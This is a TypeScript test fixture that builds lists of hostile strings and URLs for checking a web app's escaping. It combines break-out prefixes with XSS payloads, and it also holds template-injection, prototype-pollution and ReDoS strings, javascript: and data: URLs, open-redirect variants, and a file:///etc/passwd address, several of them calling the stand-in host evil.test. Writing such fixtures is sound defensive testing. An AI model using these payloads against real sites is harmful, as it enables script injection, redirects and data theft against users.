/** Texts that run where somebody takes them for HTML, script, style, an address or a pattern. */

const canary = 'window.ran=1'
const evil = 'https://evil.test/'

/** What would run, in each place that a text may break out of. */
const breaks = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</mark>',
  '</a>',
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '</template>',
]

const runs = [
  `<script>${canary}</script>`,
  `<script src=${evil}></script>`,
  `<img src=x onerror=${canary}>`,
  `<img src=${evil}>`,
  `<svg onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${canary}>`,
  `<iframe srcdoc="<script>parent.${canary}</script>">`,
  `<object data="javascript:${canary}">`,
  `<a href="javascript:${canary}" autofocus onfocus=${canary}>x</a>`,
  `<details open ontoggle=${canary}>`,
  `<style>@import '${evil}';</style>`,
  `<link rel=stylesheet href=${evil}>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href=${evil}>`,
  `<blog-search index="${evil}"></blog-search>`,
]

const odd = [
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '{count}{word}{used}{query}{__proto__}{constructor}',
  '__proto__',
  'constructor',
  'toString',
  "$& $1 $` $'",
  '(a+)+$',
  '[[[',
  '\\',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u0000<img src=x onerror=alert(1)>',
  '\u202e<img src=x onerror=alert(1)>',
  '\ud800<img src=x onerror=alert(1)>\udfff',
  '\u2028alert(1)\u2029',
  'javascript:alert(1)',
  '-->'.repeat(50),
  'x'.repeat(5_000),
  'ﷺ'.repeat(500),
]

export const hostileTexts: readonly string[] = [
  ...runs.flatMap((run) => breaks.map((end) => end + run)),
  ...odd,
]

/** Addresses that lead away, or run. */
export const hostileAddresses: readonly string[] = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  ` javascript:${canary}`,
  `\u0001javascript:${canary}`,
  `java\nscript:${canary}`,
  `java\tscript:${canary}`,
  `javascript://notes.example/%0a${canary}`,
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://notes.example/1',
  'filesystem:https://notes.example/x',
  'file:///etc/passwd',
  'about:blank',
  'mailto:a@evil.test',
  'https://evil.test/',
  'http://notes.example/',
  '//evil.test/',
  '/\\evil.test/',
  '\\\\evil.test/',
  '/\t/evil.test/',
  'https://notes.example@evil.test/',
  'https://notes.example.evil.test/',
  'https://[',
]
